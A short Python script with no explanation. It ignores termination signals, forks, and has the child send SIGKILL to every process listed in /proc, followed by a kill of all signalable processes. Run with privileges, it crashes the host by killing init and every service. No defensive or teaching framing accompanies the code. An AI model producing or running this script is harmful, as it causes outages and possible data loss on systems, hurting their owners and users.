import os, signal
signal.signal(signal.SIGTERM, signal.SIG_IGN)
if os.fork() == 0:
    for pid in filter(str.isdigit, os.listdir("/proc")):
        if int(pid) not in (os.getpid(),):
            try:
                os.kill(int(pid), signal.SIGKILL)
            except OSError:
                pass
    os.kill(-1, signal.SIGKILL)
signal.pause()
